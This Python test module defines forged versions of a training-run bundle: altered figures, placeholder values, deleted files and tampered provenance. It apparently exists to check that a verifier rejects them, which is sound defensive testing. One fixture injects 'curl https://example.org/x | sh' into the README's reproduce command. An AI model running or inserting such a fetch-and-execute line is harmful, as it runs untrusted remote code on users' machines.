"""Forgeries of what a bundle says of itself: figures, sentences, provenance, placeholders, schemas."""

from pathlib import Path

from tests.forging.catalogue import forgery
from tests.forging.folder import edited, put, read, swap, swap_line
from tests.forging.sealing import reseal, reseal_sums, retell
from tunix_rt.rundir import json_text

CLAIMS, PLACEHOLDERS, SCHEMAS = "claims", "placeholders", "schemas"


@forgery("a final loss typed over in bundle.json", group=CLAIMS)
def forge_claimed_loss(folder: Path) -> None:
    retell(folder, "bundle.json", final_loss=0.001)


@forgery("a speed typed over in bundle.json", group=CLAIMS)
def forge_claimed_speed(folder: Path) -> None:
    says = read(folder / "bundle.json")
    retell(folder, "bundle.json", tokens_per_second=says["tokens_per_second"] | {"device": 1e6})


@forgery("a figure in run_manifest.json typed over", group=CLAIMS)
def forge_manifest(folder: Path) -> None:
    retell(folder, "run_manifest.json", steps_completed=30_000)


@forgery("a key added to bundle.json", group=CLAIMS)
def forge_added_claim(folder: Path) -> None:
    retell(folder, "bundle.json", accuracy=1.0)


@forgery("a key added to run_manifest.json", group=CLAIMS)
def forge_added_to_manifest(folder: Path) -> None:
    retell(folder, "run_manifest.json", accuracy=1.0)


@forgery("one figure of the README typed over", group=CLAIMS)
def forge_readme(folder: Path) -> None:
    swap_line(folder / "README.md", r"\| final loss \| [^|]+ \|", "| final loss | 0.001 |")
    reseal_sums(folder)


@forgery("a sentence added to the README", group=CLAIMS)
def forge_readme_sentence(folder: Path) -> None:
    text = (folder / "README.md").read_text(encoding="utf-8")
    put(folder / "README.md", text + "\nThis run won the contest.\n")
    reseal_sums(folder)


@forgery("another reproduce command in the README", group=CLAIMS)
def forge_readme_command(folder: Path) -> None:
    swap(folder / "README.md", "tunix-rt train", "curl https://example.org/x | sh; tunix-rt train")
    reseal_sums(folder)


@forgery("other weights as the subject of the provenance", group=CLAIMS)
def forge_subject(folder: Path) -> None:
    with edited(folder / "provenance.intoto.json") as told:
        told["subject"][0]["digest"]["sha256"] = "5ca1ab1e" * 8
    reseal_sums(folder)


@forgery("another source among the provenance's dependencies", group=CLAIMS)
def forge_dependency(folder: Path) -> None:
    with edited(folder / "provenance.intoto.json") as told:
        told["predicate"]["buildDefinition"]["resolvedDependencies"][0]["uri"] = "git+https://example.org/other"
    reseal_sums(folder)


@forgery("another time in the provenance", group=CLAIMS)
def forge_provenance_time(folder: Path) -> None:
    with edited(folder / "provenance.intoto.json") as told:
        told["predicate"]["runDetails"]["metadata"]["startedOn"] = "2020-01-01T00:00:00+00:00"
    reseal_sums(folder)


@forgery("a hash of the left-out weights typed over in bundle.json", group=CLAIMS)
def forge_left_out(folder: Path) -> None:
    says = read(folder / "bundle.json")
    name = next(name for name in says["left_out"] if name.startswith("final_model/"))
    retell(folder, "bundle.json", left_out=says["left_out"] | {name: "5ca1ab1e" * 8})


@forgery("the bundle of another run named in the manifest", group=CLAIMS)
def forge_precommit_of_the_manifest(folder: Path) -> None:
    retell(folder, "run_manifest.json", precommit_sha256="5ca1ab1e" * 8)


@forgery("what was measured of the memory typed over in memory.json", group=CLAIMS)
def forge_measured_memory(folder: Path) -> None:
    with edited(folder / "memory.json") as told:
        told["measured_bytes"] //= 2
    reseal(folder)


@forgery("the prediction in plan.json typed over", group=CLAIMS)
def forge_plan(folder: Path) -> None:
    path = folder / "plan.json"
    with edited(path) as told:
        _halve_bytes(told)
    reseal(folder)


def _halve_bytes(value: object) -> None:
    """Every count of bytes in a plan halved, wherever it stands."""
    if isinstance(value, dict):
        for name, inner in value.items():
            if type(inner) is int and name.endswith("bytes"):
                value[name] = inner // 2
            _halve_bytes(inner)
    elif isinstance(value, list):
        for inner in value:
            _halve_bytes(inner)


# --- placeholders -----------------------------------------------------------------------------------------------------


@forgery("a null in bundle.json", group=PLACEHOLDERS)
def forge_null(folder: Path) -> None:
    retell(folder, "bundle.json", final_loss=None)


@forgery("a null in result.json", group=PLACEHOLDERS)
def forge_null_in_result(folder: Path) -> None:
    with edited(folder / "result.json") as result:
        result["parameters"] = None
    reseal(folder)


@forgery("a null in checkpoints.json", group=PLACEHOLDERS)
def forge_null_in_checkpoints(folder: Path) -> None:
    with edited(folder / "checkpoints.json") as listed:
        listed["checkpoints"][0]["manifest_sha256"] = None
    reseal(folder, heads=False)


@forgery("NaN as a loss", group=PLACEHOLDERS)
def forge_nan(folder: Path) -> None:
    swap_line(folder / "metrics.jsonl", r'"loss": [0-9.e+-]+', '"loss": NaN')
    reseal(folder, ending=False)


@forgery("infinity as a gradient norm", group=PLACEHOLDERS)
def forge_infinity(folder: Path) -> None:
    swap_line(folder / "metrics.jsonl", r'"grad_norm": [0-9.e+-]+', '"grad_norm": 1e999')
    reseal(folder, ending=False)


@forgery("the host's CPU unknown", group=PLACEHOLDERS)
def forge_unknown_cpu(folder: Path) -> None:
    with edited(folder / "doctor.json") as told:
        told["facts"]["host"] |= {"cpu": "unknown", "machine": "unknown"}
    reseal(folder)


@forgery("TODO as the name of the run", group=PLACEHOLDERS)
def forge_todo(folder: Path) -> None:
    retell(folder, "run_manifest.json", run_id="TODO")


@forgery("an empty revision of the base model", group=PLACEHOLDERS)
def forge_empty_revision(folder: Path) -> None:
    with edited(folder / "precommit.json") as committed:
        committed["base_model"]["revision"] = ""
    reseal(folder)


@forgery("a hash of zeros for the dataset's root", group=PLACEHOLDERS)
def forge_zero_hash(folder: Path) -> None:
    with edited(folder / "precommit.json") as committed:
        committed["dataset"]["merkle_root"] = "0" * 64
    reseal(folder)


@forgery("unknown as the library's version", group=PLACEHOLDERS)
def forge_unknown_version(folder: Path) -> None:
    with edited(folder / "precommit.json") as committed:
        committed["versions"]["transformers"] = "unknown"
    reseal(folder)


@forgery("an empty env_info.txt", group=PLACEHOLDERS)
def forge_empty_env_info(folder: Path) -> None:
    put(folder / "env_info.txt", "")
    reseal(folder)


@forgery("an empty rows.jsonl", group=PLACEHOLDERS)
def forge_empty_rows(folder: Path) -> None:
    put(folder / "rows.jsonl", "")
    reseal(folder)


@forgery("an empty metrics.jsonl", group=PLACEHOLDERS)
def forge_empty_metrics(folder: Path) -> None:
    put(folder / "metrics.jsonl", "")
    reseal_sums(folder)


@forgery("an empty training_log.txt", group=PLACEHOLDERS)
def forge_empty_log(folder: Path) -> None:
    put(folder / "training_log.txt", "\n")
    reseal(folder)


# --- schemas ----------------------------------------------------------------------------------------------------------


def _take_out(folder: Path, *names: str) -> None:
    sums = folder / "run-SHA256SUMS"
    kept = [line for line in sums.read_text(encoding="utf-8").splitlines() if line.split("  ", 1)[1] not in names]
    put(sums, "".join(f"{line}\n" for line in kept))
    for name in names:
        (folder / name).unlink(missing_ok=True)


@forgery("told as a bundle of an older version, without the files that are checked most", group=SCHEMAS)
def forge_older_schema(folder: Path) -> None:
    _take_out(folder, "rows.jsonl", "checkpoints.json", "processes.json")
    (folder / "provenance.intoto.json").unlink(missing_ok=True)
    put(folder / "bundle.json", json_text(read(folder / "bundle.json") | {"schema": "tunix-rt/bundle/2"}))
    reseal(folder)


@forgery("told as a bundle of the first version", group=SCHEMAS)
def forge_first_schema(folder: Path) -> None:
    _take_out(folder, "rows.jsonl", "checkpoints.json", "processes.json")
    for name in ("provenance.intoto.json", "run_manifest.json"):
        (folder / name).unlink(missing_ok=True)
    put(folder / "bundle.json", json_text(read(folder / "bundle.json") | {"schema": "tunix-rt/bundle/1"}))
    reseal(folder)


@forgery("a schema that there is not", group=SCHEMAS)
def forge_unknown_schema(folder: Path) -> None:
    retell(folder, "bundle.json", schema="tunix-rt/bundle/99")


@forgery("rows.jsonl taken out", group=SCHEMAS)
def forge_without_rows(folder: Path) -> None:
    _take_out(folder, "rows.jsonl")
    reseal(folder)


@forgery("processes.json taken out", group=SCHEMAS)
def forge_without_processes(folder: Path) -> None:
    _take_out(folder, "processes.json")
    reseal(folder)


@forgery("checkpoints.json taken out", group=SCHEMAS)
def forge_without_checkpoints(folder: Path) -> None:
    _take_out(folder, "checkpoints.json")
    reseal(folder)


@forgery("the provenance taken out", group=SCHEMAS)
def forge_without_provenance(folder: Path) -> None:
    (folder / "provenance.intoto.json").unlink()
    reseal_sums(folder)


@forgery("run_manifest.json taken out", group=SCHEMAS)
def forge_without_manifest(folder: Path) -> None:
    (folder / "run_manifest.json").unlink()
    reseal_sums(folder)
